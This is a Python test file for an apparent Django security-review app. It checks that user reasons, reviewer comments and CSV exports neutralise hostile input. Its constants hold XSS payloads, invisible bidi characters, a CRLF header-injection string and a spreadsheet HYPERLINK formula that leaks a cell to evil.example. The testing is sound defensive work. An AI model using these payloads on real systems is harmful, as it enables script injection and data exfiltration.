"""Words of people and tools with markup, controls and the like: text everywhere, and never an error of ours."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from secguard.audit import services as audit
from secguard.decisions.models import Decision
from tests.fixtures_reports import digest, flaw
from tests.flows.test_exception_story import CRITICAL, REFERENCE, ask, pipeline, verdict

__all__ = ["pipeline"]

pytestmark = pytest.mark.django_db
MARKUP = "</script><script>alert(1)</script><img src=x onerror=alert(2)> {{ 7*7 }} [x](javascript:alert(3)) &lt;"
TURNED = "approve\u202egnihton evorppa\u202c\u2066x\u2069\u200b\u200d\ufeff\u00ad"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
PINGS = "<!channel> <!here> @here @channel <@U123> <at>All</at> #123 @octocat"
HEADERS = "Fine\r\nBcc: everybody@evil.example\r\n\r\n<b>x</b>"


@pytest.fixture
def risk(pipeline: Any) -> int:
    (reason,) = [r for r in pipeline(1)["reasons"] if r["effect"] == "block"]
    found: int = reason["findings"][0]["risk"]
    return found


@pytest.mark.parametrize("text", [MARKUP, TURNED, FORMULA, PINGS, HEADERS])
def test_a_reason_and_a_comment_are_text_wherever_they_are_shown(
    risk: int, text: str, developer: Any, reviewer: Any, run_jobs: Any
) -> None:
    asked = ask(developer, risk, reason=text)
    assert asked.status_code == 201, asked.content
    pk = asked.json()["id"]
    before = reviewer.client.get(f"/decisions/{pk}/").content.decode()
    answer = reviewer.client.post(f"/decisions/{pk}/vote/", {"choice": "reject", "comment": text})
    assert answer.status_code in (200, 303), answer.content[:400]
    assert Decision.objects.get(pk=pk).status == "rejected"
    pages = [before] + [
        developer.client.get(path).content.decode()
        for path in (f"/decisions/{pk}/", "/decisions/", "/notifications/", f"/images/{digest(1)}/")
    ]
    for page in pages:
        assert "<script>alert" not in page
        assert "<img src=x" not in page
        assert "javascript:alert" not in page.replace("(javascript:alert", "")  # as words it may stand there
        assert "<!channel>" not in page
        assert "<at>" not in page
        assert not set("\u202e\u2066\u2067\u202d") & set(page)
    assert audit.verify().intact


@pytest.mark.parametrize("field", ["reason", "comment"])
@pytest.mark.parametrize(
    ("sent", "status"),
    [
        ('"' + "x" * 1_000_000 + '"', (400, 413, 422)),
        ('"\\ud800 half"', (400, 422)),
        ('"a\\u0000b"', (200, 201, 400, 422)),
        ('"\\u0000"', (400, 422)),
        ('"   "', (400, 422)),
        ('{"a": 1}', (400, 422)),
        ("[1]", (400, 422)),
        ("NaN", (400, 422)),
    ],
)
def test_what_is_no_text_to_keep_is_refused_and_keeps_nothing(
    risk: int, field: str, sent: str, status: tuple[int, ...], developer: Any, reviewer: Any, row_counts: Any
) -> None:
    if field == "comment":
        pk = ask(developer, risk).json()["id"]
        person, path, body = reviewer, f"/api/v1/decisions/{pk}/reject/", f'{{"comment": {sent}}}'
    else:
        scope = json.dumps({"repository": REFERENCE})
        end = '"2026-12-20T00:00:00Z"'
        body = f'{{"kind": "accept", "risk": {risk}, "scope": {scope}, "expires_at": {end}, "reason": {sent}}}'
        person, path = developer, "/api/v1/decisions/"
    before = row_counts()
    answer = person.api.generic("POST", path, body.encode(), content_type="application/json")
    assert answer.status_code in status, (answer.status_code, answer.content[:300])
    if answer.status_code >= 400:
        assert answer["Content-Type"].startswith("application/problem+json")
        assert row_counts() == before


@pytest.mark.parametrize("sent", ["x" * 1_000_000, "\x00", "a\x00b", "\ud800".encode("utf-8", "surrogatepass")])
def test_forms_refuse_it_with_words_beside_the_field(risk: int, sent: Any, developer: Any, reviewer: Any) -> None:
    pk = ask(developer, risk).json()["id"]
    answer = reviewer.client.post(f"/decisions/{pk}/vote/", {"choice": "reject", "comment": sent})
    assert answer.status_code in (200, 303, 400, 422)
    assert Decision.objects.get(pk=pk).status in ("requested", "rejected")
    assert "\x00" not in reviewer.client.get(f"/decisions/{pk}/").content.decode()


def test_what_tools_wrote_is_no_formula_and_no_markup_in_any_export(pipeline: Any, developer: Any) -> None:
    pipeline(1, CRITICAL | {"title": FORMULA}, flaw("CVE-2026-0002", severity="critical", title=MARKUP + TURNED))
    rows = []
    for path in ("/risks/", "/images/", "/decisions/"):
        answer = developer.client.get(path, {"format": "csv"}, follow=True)
        assert answer["Content-Type"].startswith("text/csv"), (path, answer.status_code)
        text = b"".join(answer.streaming_content).decode("utf-8-sig")
        rows += list(csv.reader(io.StringIO(text)))
    assert not [row for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r") and cell]
    assert len(rows) > 3
    page = developer.client.get(f"/images/{digest(1)}/").content.decode()
    assert "<script>alert" not in page
    assert "\u202e" not in page
    assert verdict(developer, 1)["verdict"] == "block"
